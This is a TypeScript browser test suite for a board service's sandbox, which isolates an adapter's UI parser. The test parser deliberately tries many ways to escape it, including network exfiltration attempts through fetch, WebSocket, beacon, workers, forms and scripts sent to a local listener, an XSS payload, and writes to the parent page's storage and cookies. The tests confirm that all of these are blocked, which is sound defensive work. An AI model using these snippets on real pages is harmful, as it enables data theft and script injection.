import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import { createServer, type Server, type ServerResponse } from "node:http";
import { type AddressInfo, createServer as createTcpServer } from "node:net";
import type { Frame } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "../support/eventually.ts";
import {
  externalAdapterCode,
  externalAdapterPackage,
  temporaryFolder,
  writeFiles,
} from "../support/external-adapter.ts";
import { type Board, type BoardPage, startBoard, unique } from "./board.ts";
import { chromiumPath } from "./chromium.ts";

/** Says what the test tells it to, run by run. */
class Prompter {
  readonly #server: Server;
  readonly #waiting = new Map<string, (text: string) => void>();

  constructor() {
    this.#server = createServer((request, response: ServerResponse) => {
      this.#waiting.set(request.url!.slice(1), (text) => response.end(JSON.stringify(text)));
    });
  }

  async listen(): Promise<string> {
    this.#server.listen(0, "127.0.0.1");
    await once(this.#server, "listening");
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  /** null ends the run. */
  async say(runId: string, text: string | null): Promise<void> {
    const tell = await eventually(
      async () => this.#waiting.get(runId),
      (found) => found !== undefined,
    );
    this.#waiting.delete(runId);
    tell!(text as string);
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

/** Listens on a port of this machine by TCP and UDP, and counts what reaches it. */
class Listener {
  readonly reached: string[] = [];
  readonly #tcp = createTcpServer((socket) => {
    this.reached.push("TCP");
    socket.on("error", () => {});
    socket.on("data", (bytes) => {
      this.reached.push(bytes.toString("latin1").split("\r\n")[0]!);
      socket.end("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n");
    });
  });
  readonly #udp: Socket = createSocket("udp4");
  port = 0;

  async listen(): Promise<void> {
    this.#tcp.listen(0, "127.0.0.1");
    await once(this.#tcp, "listening");
    this.port = (this.#tcp.address() as AddressInfo).port;
    this.#udp.on("message", () => this.reached.push("UDP"));
    this.#udp.bind(this.port, "127.0.0.1");
    await once(this.#udp, "listening");
  }

  close(): void {
    this.#tcp.close();
    this.#udp.close();
  }
}

const attempts = (port: number): Readonly<Record<string, string>> => ({
  fetch: `fetch("http://127.0.0.1:${port}/fetch", { mode: "no-cors" })`,
  XMLHttpRequest: `(() => { const x = new XMLHttpRequest(); x.open("GET", "http://127.0.0.1:${port}/xhr"); x.send(); })()`,
  WebSocket: `new WebSocket("ws://127.0.0.1:${port}/ws")`,
  EventSource: `new EventSource("http://127.0.0.1:${port}/events")`,
  WebTransport: `new WebTransport("https://127.0.0.1:${port}/transport")`,
  WebRTC: `(() => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }); c.createDataChannel("x"); return c.createOffer().then((o) => c.setLocalDescription(o)); })()`,
  beacon: `navigator.sendBeacon("http://127.0.0.1:${port}/beacon", "x")`,
  importScripts: `importScripts("http://127.0.0.1:${port}/import-scripts")`,
  "dynamic import": `import("http://127.0.0.1:${port}/import")`,
  "a worker of elsewhere": `new Worker("http://127.0.0.1:${port}/worker")`,
  "a worker that fetches": `new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:${port}/nested')"])))`,
  "an image": `(() => { new Image().src = "http://127.0.0.1:${port}/image"; })()`,
  "the service's own interface": `fetch("/api/session").then((answer) => fetch("http://127.0.0.1:${port}/" + answer.status))`,
});

/** Attempts that only a document could make. The parser has none; its frame must not be able to either. */
const attemptsOfDocument = (port: number): Readonly<Record<string, string>> => ({
  "top navigation": `top.location.href = "http://127.0.0.1:${port}/top"`,
  "a link to the top": `(() => { const a = document.createElement("a"); a.href = "http://127.0.0.1:${port}/link"; a.target = "_top"; document.body.append(a); a.click(); })()`,
  "a window": `open("http://127.0.0.1:${port}/window")`,
  "a form": `(() => { const f = document.createElement("form"); f.action = "http://127.0.0.1:${port}/form"; document.body.append(f); f.submit(); })()`,
  "a script": `(() => { const s = document.createElement("script"); s.src = "http://127.0.0.1:${port}/script"; document.body.append(s); })()`,
  "an inline script": `(() => { const s = document.createElement("script"); s.text = "fetch('http://127.0.0.1:${port}/inline')"; document.body.append(s); })()`,
  "a style": `(() => { const s = document.createElement("style"); s.textContent = "@import 'http://127.0.0.1:${port}/style'"; document.head.append(s); })()`,
  "a frame": `(() => { const f = document.createElement("iframe"); f.src = "http://127.0.0.1:${port}/frame"; document.body.append(f); })()`,
  "the page's document": `parent.document.title = "taken"`,
  "the page's storage": `parent.localStorage.setItem("taken", "1")`,
  "its own storage": `localStorage.setItem("kept", "1")`,
  cookies: `document.cookie = "taken=1"`,
});

/** Runs the code in a worker of the document, and in the document. */
const attemptIn = async (document: Pick<Frame, "evaluate">, code: string): Promise<void> => {
  const trial = `(async () => { try { await ${code} } catch {} })()`;
  const worker = `void new Worker(URL.createObjectURL(new Blob([${JSON.stringify(trial)}])))`;
  await document.evaluate(worker).catch(() => {});
  await document.evaluate(`(async () => { try { ${code} } catch {} })()`).catch(() => {});
};

/** Shows a line as words of the agent, but for lines that name one of its tricks. */
const hostileParser = (tricks: Readonly<Record<string, string>>) => `
const tricks = {
  ${Object.entries(tricks)
    .map(([name, code]) => `${JSON.stringify(name)}: () => ${code},`)
    .join("\n  ")}
  loop: () => { for (;;); },
  flood: () => { for (let n = 0; n < 100000; n++) postMessage("[[]]"); },
  "forged answers": () => { const send = self.postMessage; for (let n = 0; n < 100000; n++) send("[[]]"); },
  "huge output": () => [{ kind: "assistant", ts: "", text: "x".repeat(2 ** 23) }],
  "entries without number": () => Array(1e5).fill({ kind: "assistant", ts: "" }),
  markup: (ts) => ["assistant", "user", "thinking", "system", "other"].map((kind) => ({ kind, ts, text: markup })).concat(
    { kind: "tool_call", ts, name: markup, input: { command: markup } },
    { kind: "tool_result", ts, toolUseId: markup, content: markup, isError: true },
    { kind: "init", ts, model: markup, sessionId: markup },
    { kind: "result", ts, text: markup, inputTokens: markup, outputTokens: {}, costUsd: [], subtype: {}, isError: 1, errors: markup },
    { kind: "assistant", ts: markup, text: { toString() { return markup; } } },
    { kind: markup, ts, text: 7, name: [], input: null, content: {} }),
};
const markup = "<img src=x onerror=\\"window.broken=1\\"><script>window.broken=1</script>";
const say = (ts, text) => [{ kind: "assistant", ts, text }];
exports.parseStdoutLine = (line, ts) => {
  const trick = Object.hasOwn(tricks, line) ? tricks[line] : null;
  if (trick === null) return say(ts, "<" + line + ">");
  try { const said = trick(ts); return Array.isArray(said) ? said : say(ts, line + ": nothing stopped it"); }
  catch (error) { return say(ts, line + ": " + error); }
};`;

describe.skipIf(chromiumPath === null)("A UI parser in the browser's sandbox", () => {
  const listener = new Listener();
  const prompter = new Prompter();
  let board: Board;
  let companyId: string;
  let prefix: string;
  let agents = 0;
  beforeAll(async () => {
    await listener.listen();
    const prompts = await prompter.listen();
    board = await startBoard({ role: "all" });
    const { admin } = board.service;
    const directory = externalAdapterPackage(
      temporaryFolder(),
      "prompted",
      externalAdapterCode({
        type: "prompted",
        execute: `for (;;) {
          const text = JSON.parse(await (await fetch("${prompts}/" + context.runId)).text());
          if (text === null) return { exitCode: 0, timedOut: false };
          await context.onLog("stdout", text.replace("{{secret}}", context.env.HARBOUR_TOKEN ?? ""));
        }`,
      }),
    );
    const tricks = { ...attempts(listener.port), ...attemptsOfDocument(listener.port) };
    writeFiles(directory, { "ui.cjs": hostileParser(tricks) });
    await admin.adapters.install({ localPath: directory });
    ({ id: companyId, issuePrefix: prefix } = await admin.companies.create({ name: "Harbour Works" }));
  });
  afterAll(async () => {
    prompter.close();
    listener.close();
    await board?.stop();
  });

  /** A live run, and its screen. */
  const liveRun = async (env: Record<string, unknown> = {}) => {
    const { admin } = board.service;
    const agent = await admin.agents.create({
      companyId,
      name: `Ada ${++agents}`,
      adapterType: "prompted",
      adapterConfig: { env } as never,
    });
    const { id } = await admin.agents.invoke({ agentId: agent.id });
    const runId = id!;
    await eventually(
      () => admin.runs.get({ runId }),
      ({ status }) => status === "running",
    );
    const shown = await board.signedIn("/api/health");
    const asked: string[] = [];
    shown.page.on("request", (request) => asked.push(new URL(request.url()).pathname));
    // When the stream of the run opens, the transcript is read again: before anything is said.
    const opened = shown.page.waitForResponse((response) => response.url().includes(`logOfRunId=${runId}`));
    await shown.page.goto(shown.at(`/${prefix}/runs/${runId}`));
    await opened;
    await shown.page.getByText("No output yet").waitFor();
    return { runId, asked, ...shown, say: (text: string | null) => prompter.say(runId, text) };
  };
  const sandboxOf = async ({ page }: Pick<BoardPage, "page">): Promise<Frame> =>
    (await eventually(
      async () => page.frames().find((frame) => frame.url().endsWith("/sandbox/parser.html")),
      (frame) => frame !== undefined,
    ))!;

  it("parses what a live run says as it says it, and asks the service for the beginning and the end alone", async () => {
    const { admin } = board.service;
    const value = "hush-hush-harbour";
    const name = unique("Token");
    const secret = await admin.secrets.create({ companyId, name, value });
    const { page, asked, say, expectClean, expectAccessible, close } = await liveRun({
      HARBOUR_TOKEN: { type: "secret_ref", secretId: secret.id },
    });
    await say("the crane is mended\nthe hull is ");
    await page.getByText("<the crane is mended>").waitFor();
    const transcripts = () => asked.filter((path) => path.endsWith("/transcript")).length;
    const atBegin = transcripts();
    await say("painted\n");
    await page.getByText("<the hull is painted>").waitFor();
    await say("the token is {{secret}}\n");
    await page.getByText("<the token is ••••>").waitFor();
    await say("the rope is");
    expect(await page.content()).not.toContain(value);
    await expectAccessible();
    expect(transcripts()).toBe(atBegin);
    await say(null);
    await page.getByText("<the rope is>").waitFor();
    await expect.poll(() => page.locator(".run-line").count()).toBe(4);
    await expect.poll(transcripts).toBe(atBegin + 1);
    expectClean();
    await close();
  });

  it("has nothing but the language: none of its tricks reaches anything", async () => {
    const tricks = Object.keys({ ...attempts(listener.port), ...attemptsOfDocument(listener.port) });
    const { page, say, close } = await liveRun();
    await say(`begin\n${tricks.join("\n")}\nend\n`);
    await page.getByText("<end>").waitFor();
    const rows = await page.locator(".run-line .run-text").allTextContents();
    expect(rows).toHaveLength(tricks.length + 2);
    for (const trick of tricks) {
      const row = rows.find((each) => each.startsWith(`${trick}: `));
      // An import has no name that could be taken away: the policy refuses it.
      if (trick !== "dynamic import") expect(row).toMatch(/: (Reference|Type)Error/);
    }
    expect(listener.reached).toEqual([]);
    expect(page.url()).toContain("/runs/");
    expect(await page.evaluate("[document.cookie, localStorage.taken].join('')")).toBe("");
    await close();
  });

  it("is behind a policy that lets nothing out, even if it had all that a document or a worker has", async () => {
    const { page, say, close } = await liveRun();
    await say("begin\n");
    await page.getByText("<begin>").waitFor();
    const frame = await sandboxOf({ page });
    expect(await frame.evaluate("origin")).toBe("null");
    const all = { ...attempts(listener.port), ...attemptsOfDocument(listener.port) };
    // No policy stops these in a document: WebRTC, and the connection that Chromium opens before it refuses a frame. A
    // parser is in a worker, which has neither.
    for (const name of ["WebRTC", "a frame"]) delete (all as Record<string, string>)[name];
    for (const code of Object.values(all)) await attemptIn(frame, code);
    // The same attempts, begun later where nothing holds them back, have arrived.
    const free = await page.context().newPage();
    const other = new Listener();
    await other.listen();
    await free.goto(`http://127.0.0.1:${other.port}/`);
    for (const code of Object.values(attempts(other.port))) await attemptIn(free, code);
    const paths = [
      "fetch",
      "xhr",
      "ws",
      "events",
      "beacon",
      "import-scripts",
      "import",
      "worker",
      "nested",
      "image",
    ];
    await expect
      .poll(() => paths.filter((path) => !other.reached.some((line) => line.includes(` /${path} `))))
      .toEqual([]);
    other.close();
    await free.close();
    expect(listener.reached).toEqual([]);
    expect(page.url()).toContain("/runs/");
    expect(await page.title()).not.toBe("taken");
    expect(await page.evaluate("[document.cookie, localStorage.taken].join('')")).toBe("");
    const worker = `new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(typeof RTCPeerConnection)"]))); w.onmessage = ({ data }) => resolve(data); })`;
    const next = await liveRun();
    await next.say("begin\n");
    await next.page.getByText("<begin>").waitFor();
    expect(await (await sandboxOf(next)).evaluate(worker)).toBe("undefined");
    await next.close();
    await close();
  });

  it.each([
    ["loop", /The adapter's UI parser took too long\./],
    ["huge output", /The adapter's UI parser (returned too much|took too long)\./],
    ["entries without number", /The adapter's UI parser (returned too much|took too long)\./],
  ])(
    "is ended on %s, the page stays quick, and the transcript says why it is not parsed",
    async (trick, sentence) => {
      const { page, say, expectClean, close } = await liveRun();
      await say("begin\n");
      await page.getByText("<begin>").waitFor();
      await page.evaluate(
        "window.longest = 0; window.last = performance.now(); setInterval(() => { longest = Math.max(longest, performance.now() - last); last = performance.now(); }, 10)",
      );
      await say(`${trick}\n`);
      await page.getByText(sentence).waitFor();
      await page.getByText(trick, { exact: true }).waitFor();
      // The next line is shown as it is.
      await say("more\n");
      await page.getByText("more", { exact: true }).waitFor();
      expect(await page.evaluate("longest")).toBeLessThan(10_000);
      expectClean();
      await close();
    },
  );

  it.each(["flood", "forged answers"])("cannot speak for itself by a %s of messages", async (trick) => {
    const { page, say, expectClean, close } = await liveRun();
    await say(`begin\n${trick}\nend\n`);
    await page.getByText("<end>").waitFor();
    expect(await page.getByText(`${trick}: `).textContent()).toMatch(/Error/);
    expectClean();
    await close();
  });

  it("makes text, never markup, whatever the shape of its entries", async () => {
    const { page, say, expectClean, close } = await liveRun();
    await say("markup\nend\n");
    await page.getByText("<end>").waitFor();
    expect(await page.evaluate("window.broken")).toBeUndefined();
    expect(await page.locator("main img, main script, main iframe").count()).toBe(0);
    expectClean();
    await close();
  });

  it("is the only thing of the service that a page may frame", async () => {
    const { page, at, close } = await board.signedIn("/inbox");
    const { admin } = board.service;
    const { id: issueId } = await admin.issues.create({ companyId, title: "With a file" });
    const file = new File(["words"], "a.txt", { type: "text/plain" });
    const attached = await admin.attachments.add({ companyId, issueId, file });
    const framed = (path: string) =>
      page.evaluate(`new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.src = ${JSON.stringify(at(path))};
        frame.onload = () => {
          resolve(frame.contentDocument === null ? "something else" : frame.contentDocument.body.innerHTML);
          frame.remove();
        };
        document.body.append(frame);
      })`);
    for (const path of [
      "/inbox",
      "/api/session",
      "/api/openapi.json",
      `/api/attachments/${attached.id}/content`,
    ])
      expect([path, await framed(path)]).toEqual([path, "something else"]);
    const { headers } = await board.service.request("GET", "/sandbox/parser.html");
    expect(headers.get("content-security-policy")).toMatch(/default-src 'none'.*sandbox allow-scripts$/);
    await close();
  });
});
